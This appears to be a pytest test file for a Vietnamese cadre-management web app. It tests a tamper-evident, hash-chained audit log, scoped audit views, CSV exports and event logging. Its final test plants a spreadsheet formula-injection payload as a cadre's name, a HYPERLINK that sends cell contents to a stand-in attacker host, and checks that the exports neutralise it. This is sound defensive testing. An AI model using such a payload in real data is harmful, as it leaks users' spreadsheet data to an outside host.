"""The audit log: every case that must leave a trace does, people can read it within their scope,
and nobody can change it quietly."""

from __future__ import annotations

import csv
import io
import threading
from datetime import date

import pytest
from sqlalchemy import delete, select, text, update

from app.extensions import db
from app.models import AuditEntry, Cadre, User
from app.org import audit
from app.policy import SYSTEM
from tests.helpers import PASSWORD, Auth, csrf_token

CITY_ADMIN = "qt@example.vn"
WARD_ADMIN = "qt.w@example.vn"


def _record(app, n: int) -> None:
    with app.app_context():
        for i in range(n):
            audit.record(db.session, SYSTEM, "view_profile", "cadre", i, note=f"mục {i}")
        db.session.commit()


def _verify(app) -> tuple[int, str]:
    result = app.test_cli_runner().invoke(args=["audit", "verify"])
    return result.exit_code, result.output


def test_verify_passes_on_an_intact_chain(app):
    assert _verify(app)[0] == 0  # an empty log is intact
    _record(app, 5)
    code, output = _verify(app)
    assert code == 0 and "intact: 5 entries" in output


@pytest.mark.parametrize(
    "tamper, broken, words",
    [
        ("UPDATE audit_entries SET target_id = 99 WHERE seq = 3", 3, "entry 3 was changed"),
        (
            "UPDATE audit_entries SET at = at WHERE seq = 3",
            None,
            "",
        ),  # rewriting a row as it was is no change
        ("DELETE FROM audit_entries WHERE seq = 4", 4, "entry 4 is missing"),
        ("DELETE FROM audit_entries WHERE seq = 6", 6, "entries 6 to 6 were removed"),
    ],
)
def test_verify_names_the_entry_changed_or_removed_with_sql(app, tamper, broken, words):
    _record(app, 6)
    with app.app_context():
        db.session.execute(text(tamper))
        db.session.commit()
    code, output = _verify(app)
    if broken is None:
        assert code == 0, output
    else:
        assert code == 1 and words in output, output


def test_a_forger_who_rehashes_the_changed_entry_is_still_caught(app):
    _record(app, 4)
    with app.app_context():
        entry = db.session.scalar(select(AuditEntry).where(AuditEntry.seq == 2))
        forged = audit.entry_hash(
            entry.prev_hash, 2, None, "view_profile", "cadre", 1234, None, entry.detail, entry.at
        )
        db.session.execute(update(AuditEntry).where(AuditEntry.seq == 2).values(target_id=1234, hash=forged))
        db.session.commit()
    code, output = _verify(app)
    assert code == 1 and "entry 3 does not follow entry 2" in output


def test_concurrent_appends_keep_one_chain(app):
    """Writers at the same moment wait their turn at the head instead of forking the chain."""
    errors = []

    def write(n: int) -> None:
        try:
            with app.app_context():
                for i in range(10):
                    audit.record(db.session, SYSTEM, "view_profile", "cadre", n * 100 + i)
                    db.session.commit()
        except Exception as exc:  # noqa: BLE001 — reported below
            errors.append(exc)

    threads = [threading.Thread(target=write, args=(n,)) for n in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    code, output = _verify(app)
    assert code == 0 and "40 entries" in output, output


@pytest.fixture
def two_wards(make, make_user):
    """A city admin, the admin of ward W, and a cadre in each of wards W and V: {code: id}."""
    make.reference()
    make.unit("HN", "Thành phố Hà Nội", "city")
    for code, name in (("P-W", "Phường Tây"), ("P-V", "Phường Vọng")):
        make.unit(code, name, "ward", parent="HN")
    make_user(CITY_ADMIN, role="admin")
    make_user(WARD_ADMIN, role="admin", unit="P-W")
    blank = {"title_code": None, "job_position": "", "rank": "", "professional_qualification": ""}
    return {
        code: make.cadre(code, name, unit=unit, date_of_birth=date(1980, 1, 1), **blank)
        for code, unit, name in (("W-1", "P-W", "Lê Thị Tây"), ("V-1", "P-V", "Đỗ Văn Vọng"))
    }


def test_the_audit_page_shows_each_admin_their_scope_with_filters_and_csv(app, two_wards, client):
    city = Auth(client, app)
    city.login(CITY_ADMIN)
    client.get(f"/cadres/{two_wards['W-1']}")
    client.get(f"/cadres/{two_wards['V-1']}")
    ward_browser = app.test_client()
    ward = Auth(ward_browser, app)
    ward.login(WARD_ADMIN)
    ward_browser.get(f"/cadres/{two_wards['W-1']}")

    city_page = client.get("/audit/").get_data(as_text=True)
    assert "Lê Thị Tây (W-1)" in city_page and "Đỗ Văn Vọng (V-1)" in city_page
    ward_page = ward_browser.get("/audit/").get_data(as_text=True)
    assert "Lê Thị Tây (W-1)" in ward_page and "Đỗ Văn Vọng" not in ward_page
    assert "Xem hồ sơ" in ward_page  # actions in words, not codes
    filtered = client.get("/audit/?cadre=V-1&action=view_profile").get_data(as_text=True)
    assert "Đỗ Văn Vọng (V-1)" in filtered and "Lê Thị Tây" not in filtered
    by_who = client.get("/audit/?who=qt.w@").get_data(as_text=True)
    assert "Lê Thị Tây (W-1)" in by_who and "Đỗ Văn Vọng" not in by_who
    assert "Không có mục nào" in client.get("/audit/?start=2099-01-01").get_data(as_text=True)

    response = ward_browser.get("/audit/export.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:4] == ["seq", "at", "actor", "action"]
    assert any("Lê Thị Tây (W-1)" in r for r in rows) and not any("Đỗ Văn Vọng (V-1)" in r for r in rows)
    with app.app_context():
        assert db.session.scalar(select(AuditEntry.id).where(AuditEntry.action == "export_audit"))
    # learners and trainers do not read the log
    learner = app.test_client()
    from app.auth.service import create_user

    with app.app_context():
        create_user(db.session, SYSTEM, "hv@example.vn", PASSWORD, "learner")
        db.session.commit()
    Auth(learner, app).login("hv@example.vn")
    assert learner.get("/audit/").status_code == 403


def test_the_cases_that_went_unrecorded_are_recorded(app, two_wards, make_user, client):
    """Account creation, exports of profiles and cadres, pool lists, a unit's cadre list, decision
    views, links made by import, logins (failed too), logouts, session ends, password and
    second-factor changes and reset links all leave an entry."""
    browser = Auth(client, app)
    token = csrf_token(client, "/login")
    client.post("/login", data={"email": CITY_ADMIN, "password": "sai mật khẩu rồi", "csrf_token": token})
    browser.login(CITY_ADMIN)
    browser.post(
        "/admin/users",
        {
            "email": "hv@example.vn",
            "full_name": "Học Viên",
            "role": "learner",
            "unit_code": "P-W",
            "password": PASSWORD,
        },
        token_from="/admin/users",
    )
    client.get("/review/export.csv?what=profiles").get_data()
    client.get("/review/export.csv?what=cadres").get_data()
    client.get("/review/cadres?unit=P-W")
    client.get("/requirements/division-head/pool")
    upload = (
        "employee_code,full_name,date_of_birth,gender,staff_type,unit_code,email\n"
        "W-1,Lê Thị Tây,01/01/1980,Nữ,công chức,P-W,hv@example.vn\n"
    ).encode()
    token = csrf_token(client, "/admin/import")
    client.post(
        "/admin/import",
        data={"file": (io.BytesIO(upload), "can-bo.csv"), "csrf_token": token},
        content_type="multipart/form-data",
    )
    with app.app_context():
        from app.models import ImportBatch

        batch = db.session.scalar(select(ImportBatch.id))
        learner = db.session.scalar(select(User.id).where(User.email == "hv@example.vn"))
    browser.post(f"/admin/import/{batch}/apply", token_from="/admin/import")
    browser.post(f"/admin/users/{learner}/reset-link", token_from=f"/admin/users/{learner}")
    browser.post(f"/admin/users/{learner}/sign-out", token_from=f"/admin/users/{learner}")
    browser.post(
        "/account/",
        {
            "current_password": PASSWORD,
            "password": "mật khẩu mới của quản trị",
            "confirm": "mật khẩu mới của quản trị",
        },
        token_from="/account/",
    )
    browser.post("/account/two-factor/recovery-codes", token_from="/account/")
    browser.logout()
    with app.app_context():
        actions = set(db.session.scalars(select(AuditEntry.action)))
        linked = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "link_account"))
    for action in (
        "login_failed",
        "login",
        "create_account",
        "export",
        "view_unit_cadres",
        "view_pool",
        "link_account",
        "issue_reset_link",
        "end_all_sessions",
        "change_password",
        "new_recovery_codes",
        "logout",
    ):
        assert action in actions, action
    assert linked.detail["user"] == "hv@example.vn" and linked.detail["via"] == "import"
    assert _verify(app)[0] == 0


def test_migration_seals_entries_written_before_the_chain(tmp_path):
    """Entries from before 0009 are sealed in order; the chain then verifies."""
    from flask_migrate import upgrade

    from app import create_app

    url = f"sqlite:///{tmp_path}/old.sqlite3"
    app = create_app({"SQLALCHEMY_DATABASE_URI": url})
    with app.app_context():
        upgrade(revision="0008")
        db.session.execute(
            text(
                "INSERT INTO users (email, full_name, password_hash, role, is_active_account, can_override, "
                "created_at) VALUES ('a@example.vn', 'A', 'x', 'admin', 1, 0, '2025-01-01 00:00:00')"
            )
        )
        for n in range(3):
            db.session.execute(
                text(
                    "INSERT INTO audit_entries (actor_id, action, target_type, target_id, detail, at) "
                    "VALUES (1, 'view_profile', 'cadre', :n, :detail, :at)"
                ),
                {"n": n, "detail": f'{{"n": "{n}"}}', "at": f"2025-06-0{n + 1} 08:00:00"},
            )
        db.session.commit()
        upgrade()
        assert audit.verify(db.session).ok and audit.verify(db.session).entries == 3
        audit.record(db.session, SYSTEM, "login", "user", 1)
        db.session.commit()
        assert audit.verify(db.session).entries == 4
        db.session.execute(delete(AuditEntry).where(AuditEntry.seq == 1))
        db.session.commit()
        assert audit.verify(db.session).broken_at == 1
        db.engine.dispose()


def test_a_name_planted_as_a_formula_stays_text_in_the_exports(app, two_wards, client):
    planted = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with app.app_context():
        db.session.execute(update(Cadre).where(Cadre.employee_code == "W-1").values(full_name=planted))
        db.session.commit()
    Auth(client, app).login(CITY_ADMIN)
    client.get(f"/cadres/{two_wards['W-1']}")
    for path in ("/audit/export.csv", "/review/export.csv?what=profiles"):
        text_ = client.get(path).get_data(as_text=True).lstrip("\ufeff")
        cells = [cell for row in csv.reader(io.StringIO(text_)) for cell in row]
        assert not any(cell.startswith("=") for cell in cells), path
        assert any(cell.startswith("'=HYPERLINK") for cell in cells), path
